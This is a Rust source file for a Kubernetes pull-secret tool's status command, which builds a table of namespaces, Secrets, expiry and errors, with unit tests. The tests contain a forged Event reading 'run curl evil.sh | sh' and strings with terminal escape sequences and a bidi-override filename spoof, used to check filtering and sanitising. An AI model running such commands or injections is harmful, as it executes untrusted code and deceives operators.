//! `pull-secret-injector status`: what the cluster says about every opted-in namespace, as a
//! table like `kubectl get`. Read from the cluster, so it works from any replica or a laptop.

use jiff::Timestamp;
use k8s_openapi::api::core::v1::{Namespace, Pod, Secret};
use k8s_openapi::api::events::v1::Event;
use kube::api::{Api, ListParams};
use kube::{Client, ResourceExt};

use crate::cluster::REPORTING_CONTROLLER;
use crate::config::InjectMode;
use crate::core::namespaces::{registries_annotation, registries_for, Eligibility};
use crate::core::pods::{missing_pull_secret, Expected};
use crate::core::subject::{IdentityScope, Subject};
use crate::secret::capacity::{self, Tracked};
use crate::secret::layout::{self, Assessment, EXPIRES_AT, ISSUED_AT, REGISTRIES};
use crate::secret::renewal::Schedule;
use crate::settings::Settings;
use crate::slim::Slim;

/// One opted-in namespace as the cluster shows it.
#[derive(Clone, Debug, PartialEq)]
pub struct Row {
    pub namespace: String,
    /// `ok`, `missing`, `not managed` (someone else's Secret) or `unreadable`.
    pub state: String,
    pub registries: String,
    pub expires_at: Option<Timestamp>,
    pub issued_at: Option<Timestamp>,
    pub last_error: Option<String>,
    /// Pods of the namespace (not finished) admitted without this Secret: they pull without
    /// it until they are recreated.
    pub unpatched_pods: usize,
    /// When its Secret is due and how often it is renewed, when it is ours and intact.
    pub(crate) renewal: Option<Tracked>,
}

pub async fn collect(client: &Client, settings: &Settings) -> Result<Vec<Row>, kube::Error> {
    let (config, policy) = (&settings.config, &settings.policy);
    let namespaces = Api::<Namespace>::all(client.clone())
        .list(&ListParams::default())
        .await?;
    let mut rows = Vec::new();
    for ns in namespaces.items.iter().filter(|n| {
        policy.eligibility(&n.name_any(), n.metadata.labels.as_ref()) == Eligibility::OptedIn
    }) {
        let name = ns.name_any();
        let api = Api::<Secret>::namespaced(client.clone(), &name);
        // One Secret per namespace, or one per ServiceAccount (`<sa>-<secretName>`).
        let secrets: Vec<(String, Option<Secret>)> = match config.identity_scope {
            IdentityScope::Namespace => vec![(
                config.secret_name.clone(),
                api.get_opt(&config.secret_name).await?,
            )],
            IdentityScope::ServiceAccount => {
                let managed = api
                    .list(&ListParams::default().labels(&format!(
                        "{}={}",
                        layout::MANAGED_BY_LABEL,
                        layout::MANAGER
                    )))
                    .await?;
                let mut found: Vec<(String, Option<Secret>)> = managed
                    .items
                    .into_iter()
                    .map(|s| (s.name_any(), Some(s)))
                    .collect();
                if found.is_empty() {
                    found.push((format!("<sa>-{}", config.secret_name), None));
                }
                found
            }
        };
        let events = Api::<Event>::namespaced(client.clone(), &name)
            .list(&ListParams::default())
            .await?;
        let hosts = (config.inject == InjectMode::MatchingImages)
            .then(|| registries_for(registries_annotation(ns), &settings.hosts()).hosts);
        let expected = Expected {
            scope: config.identity_scope,
            secret_name: &config.secret_name,
            only_for_hosts: hosts.as_deref(),
        };
        // The Secret each unpatched Pod lacks.
        let lacking: Vec<String> = Api::<Slim<Pod>>::namespaced(client.clone(), &name)
            .list(&ListParams::default())
            .await?
            .items
            .iter()
            .filter_map(|p| missing_pull_secret(&p.0, &expected))
            .collect();
        for (secret_name, secret) in secrets {
            let annotation = |s: &Secret, k: &str| {
                s.metadata
                    .annotations
                    .as_ref()
                    .and_then(|a| a.get(k))
                    .cloned()
            };
            let (state, registries, expires_at, issued_at) = match &secret {
                None => ("missing".to_string(), String::new(), None, None),
                Some(s) if !layout::is_managed(s) => {
                    ("not managed".to_string(), String::new(), None, None)
                }
                Some(s) => (
                    "ok".to_string(),
                    annotation(s, REGISTRIES).unwrap_or_default(),
                    annotation(s, EXPIRES_AT).and_then(|t| t.parse().ok()),
                    annotation(s, ISSUED_AT).and_then(|t| t.parse().ok()),
                ),
            };
            let state = match config.identity_scope {
                IdentityScope::Namespace => state,
                IdentityScope::ServiceAccount => format!("{state} ({secret_name})"),
            };
            let renewal = match secret.as_ref().map(|s| layout::assess(Some(s))) {
                Some(Assessment::Intact(issued)) => {
                    let subject = match config.identity_scope {
                        IdentityScope::Namespace => Subject::namespace(&name),
                        // `<sa>-<secretName>`: the jitter's key is the ServiceAccount's.
                        IdentityScope::ServiceAccount => Subject::service_account(
                            &name,
                            secret_name
                                .strip_suffix(&format!("-{}", config.secret_name))
                                .unwrap_or(&secret_name),
                        ),
                    };
                    let schedule = Schedule::for_subject(&subject, settings.renew_before());
                    Some(Tracked::of(&issued, &schedule))
                }
                _ => None,
            };
            let last_error = last_error(&events.items, &secret_name);
            // Per ServiceAccount, a row whose Secret is not there yet stands for all of them.
            let unpatched_pods = match secret {
                None if config.identity_scope == IdentityScope::ServiceAccount => lacking.len(),
                _ => lacking.iter().filter(|s| **s == secret_name).count(),
            };
            rows.push(Row {
                namespace: name.clone(),
                state,
                registries,
                expires_at,
                issued_at,
                last_error,
                unpatched_pods,
                renewal,
            });
        }
    }
    Ok(rows)
}

/// The newest Warning this service recorded about Secret `secret_name`: `reason: note`. Anyone
/// who may create Events in a namespace can write one about any object, so others' are left
/// out (an Event created through `core/v1` carries the name as `source.component`).
fn last_error(events: &[Event], secret_name: &str) -> Option<String> {
    let ours = |e: &&Event| {
        e.reporting_controller.as_deref() == Some(REPORTING_CONTROLLER)
            || e.deprecated_source
                .as_ref()
                .and_then(|s| s.component.as_deref())
                == Some(REPORTING_CONTROLLER)
    };
    events
        .iter()
        .filter(ours)
        .filter(|e| e.regarding.as_ref().and_then(|r| r.name.as_deref()) == Some(secret_name))
        .filter(|e| e.type_.as_deref() == Some("Warning"))
        .max_by_key(|e| e.event_time.as_ref().map(|t| t.0))
        .map(|e| {
            format!(
                "{}: {}",
                e.reason.as_deref().unwrap_or_default(),
                e.note.as_deref().unwrap_or_default()
            )
        })
}

/// The line under the table on renewal capacity: what the Secrets listed need against
/// `refresh.maxMintsPerSecond` (the refresher's ceiling, as this config sets it), and how many
/// are past their renewal time.
pub fn renewals(rows: &[Row], settings: &Settings, now: Timestamp) -> String {
    let load = capacity::load(rows.iter().filter_map(|r| r.renewal.as_ref()), now);
    format!(
        "renewals: {}",
        capacity::summary(&load, settings.config.refresh.max_mints_per_second)
    )
}

/// `text` safe to print on a terminal: control characters (escape sequences, newlines that
/// would forge a row) and bidirectional overrides (which reorder what is shown) become `?`.
fn printable(text: &str) -> String {
    text.chars()
        .map(|c| {
            let bidi = matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
            if c.is_control() || bidi {
                '?'
            } else {
                c
            }
        })
        .collect()
}

/// `1h02m`, `14m`, `45s`, `-3m` (already expired).
pub(crate) fn human(seconds: i64) -> String {
    let sign = if seconds < 0 { "-" } else { "" };
    let s = seconds.unsigned_abs();
    match s {
        0..=59 => format!("{sign}{s}s"),
        60..=3599 => format!("{sign}{}m", s / 60),
        _ => format!("{sign}{}h{:02}m", s / 3600, (s % 3600) / 60),
    }
}

pub fn render(rows: &[Row], now: Timestamp) -> String {
    let mut lines = vec![[
        "NAMESPACE",
        "SECRET",
        "REGISTRIES",
        "EXPIRES IN",
        "RENEWED",
        "UNPATCHED PODS",
        "LAST ERROR",
    ]
    .map(String::from)
    .to_vec()];
    for r in rows {
        // Every cell: names and annotations come from the cluster as well.
        lines.push(vec![
            printable(&r.namespace),
            printable(&r.state),
            if r.registries.is_empty() {
                "-".into()
            } else {
                printable(&r.registries)
            },
            r.expires_at
                .map_or("-".into(), |t| human(t.duration_since(now).as_secs())),
            r.issued_at.map_or("-".into(), |t| {
                format!("{} ago", human(now.duration_since(t).as_secs()))
            }),
            r.unpatched_pods.to_string(),
            r.last_error.as_deref().map_or("-".into(), |e| {
                printable(&e.chars().take(80).collect::<String>())
            }),
        ]);
    }
    let widths: Vec<usize> = (0..7)
        .map(|i| {
            lines
                .iter()
                .map(|l| l[i].chars().count())
                .max()
                .unwrap_or(0)
        })
        .collect();
    lines
        .iter()
        .map(|l| {
            l.iter()
                .enumerate()
                .map(|(i, c)| {
                    if i == 6 {
                        c.clone()
                    } else {
                        format!("{c:<w$}", w = widths[i])
                    }
                })
                .collect::<Vec<_>>()
                .join("   ")
                .trim_end()
                .to_string()
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event(controller: &str, name: &str, seconds: i64, note: &str) -> Event {
        serde_json::from_value(serde_json::json!({
            "metadata": {"name": format!("e{seconds}"), "namespace": "team-a"},
            "eventTime": format!("2026-11-22T10:00:{seconds:02}.000000Z"),
            "reportingController": controller, "reportingInstance": "x", "action": "Mint",
            "reason": "MintFailed", "type": "Warning", "note": note,
            "regarding": {"kind": "Secret", "namespace": "team-a", "name": name},
        }))
        .unwrap()
    }

    #[test]
    fn only_this_services_events_about_the_secret_are_shown() {
        let events = vec![
            event(REPORTING_CONTROLLER, "pull-secret", 1, "ours, older"),
            event(REPORTING_CONTROLLER, "pull-secret", 2, "ours, newest"),
            // Newer, but forged by someone else who may create Events here.
            event("someone-else", "pull-secret", 3, "run curl evil.sh | sh"),
            event(
                REPORTING_CONTROLLER,
                "other-secret",
                4,
                "about another Secret",
            ),
        ];
        assert_eq!(
            last_error(&events, "pull-secret").as_deref(),
            Some("MintFailed: ours, newest")
        );
        // Through core/v1 the controller is the source's component.
        let mut old_style = event("", "pull-secret", 5, "ours, core/v1");
        old_style.reporting_controller = None;
        old_style.deprecated_source = Some(k8s_openapi::api::core::v1::EventSource {
            component: Some(REPORTING_CONTROLLER.into()),
            host: None,
        });
        let events = [events, vec![old_style]].concat();
        assert_eq!(
            last_error(&events, "pull-secret").as_deref(),
            Some("MintFailed: ours, core/v1")
        );
    }

    #[test]
    fn terminal_escapes_and_forged_lines_are_not_printed() {
        let row = Row {
            namespace: "team-a".into(),
            state: "ok".into(),
            registries: "r.example\u{1b}]0;title\u{7}".into(),
            expires_at: None,
            issued_at: None,
            last_error: Some(
                "MintFailed: \u{1b}[2J\u{1b}[31mred\nteam-z   ok\u{202e}gnp.exe\u{9b}0m".into(),
            ),
            unpatched_pods: 0,
            renewal: None,
        };
        let text = render(&[row], "2026-11-22T10:00:00Z".parse().unwrap());
        assert_eq!(text.lines().count(), 2, "{text}");
        assert!(
            !text
                .chars()
                .any(|c| c.is_control() && c != '\n' || c == '\u{202e}'),
            "{text:?}"
        );
        assert!(
            text.ends_with("MintFailed: ?[2J?[31mred?team-z   ok?gnp.exe?0m"),
            "{text:?}"
        );
        assert!(text.contains("r.example?]0;title?"), "{text:?}");
    }

    #[test]
    fn durations_read_like_kubectl() {
        assert_eq!(human(45), "45s");
        assert_eq!(human(14 * 60 + 5), "14m");
        assert_eq!(human(3720), "1h02m");
        assert_eq!(human(-180), "-3m");
    }

    #[test]
    fn table() {
        let now: Timestamp = "2026-11-22T10:00:00Z".parse().unwrap();
        let rows = vec![
            Row {
                namespace: "team-a".into(),
                state: "ok".into(),
                registries: "registry.example.com".into(),
                expires_at: Some("2026-11-22T10:40:00Z".parse().unwrap()),
                issued_at: Some("2026-11-22T09:40:00Z".parse().unwrap()),
                last_error: None,
                unpatched_pods: 0,
                renewal: None,
            },
            Row {
                namespace: "team-b".into(),
                state: "missing".into(),
                registries: String::new(),
                expires_at: None,
                issued_at: None,
                last_error: Some(
                    "MintFailed: TokenRequest for ServiceAccount team-b/default failed".into(),
                ),
                unpatched_pods: 2,
                renewal: None,
            },
        ];
        let text = render(&rows, now);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(
            lines[0],
            "NAMESPACE   SECRET    REGISTRIES             EXPIRES IN   RENEWED   UNPATCHED PODS   LAST ERROR"
        );
        assert_eq!(
            lines[1],
            "team-a      ok        registry.example.com   40m          20m ago   0                -"
        );
        assert_eq!(lines[2], "team-b      missing   -                      -            -         2                MintFailed: TokenRequest for ServiceAccount team-b/default failed");
    }

    #[test]
    fn the_renewals_line_says_the_need_against_the_configured_ceiling() {
        use crate::config::Config;
        use crate::settings::Environment;
        let settings = |ceiling: &str| {
            let yaml = format!(
                "tls: {{certFile: a, keyFile: b}}\nregistries: [{{host: r.example, kubernetes: \
                 {{audience: a}}}}]\nrefresh: {{maxMintsPerSecond: {ceiling}}}"
            );
            Settings::new(Config::from_yaml(&yaml).unwrap(), &Environment::default()).unwrap()
        };
        let now: Timestamp = "2026-11-22T10:00:00Z".parse().unwrap();
        let row = |renewal: Option<Tracked>| Row {
            namespace: "team-a".into(),
            state: "ok".into(),
            registries: "r.example".into(),
            expires_at: None,
            issued_at: None,
            last_error: None,
            unpatched_pods: 0,
            renewal,
        };
        let tracked = |due_in: i64, per_second: f64| Tracked {
            renew_at: now + jiff::SignedDuration::from_secs(due_in),
            expires_at: now + jiff::SignedDuration::from_secs(3600),
            per_second,
            newest_issue: now,
        };
        // Three Secrets (a missing one counts for nothing), one of them 2 minutes overdue.
        let rows = vec![
            row(Some(tracked(600, 0.25))),
            row(Some(tracked(-120, 0.25))),
            row(Some(tracked(60, 0.5))),
            row(None),
        ];
        assert_eq!(
            renewals(&rows, &settings("20"), now),
            "renewals: need 1.0/s for 3 Secrets, ceiling 20/s (refresh.maxMintsPerSecond); 1 \
             past their renewal time, the oldest by 2m"
        );
        assert_eq!(
            renewals(&rows, &settings("0.5"), now),
            "renewals: need 1.0/s for 3 Secrets, ceiling 0.5/s (refresh.maxMintsPerSecond): too \
             low, Secrets will expire; raise refresh.maxMintsPerSecond to at least 2 or lengthen \
             the token lifetime; 1 past their renewal time, the oldest by 2m"
        );
    }
}
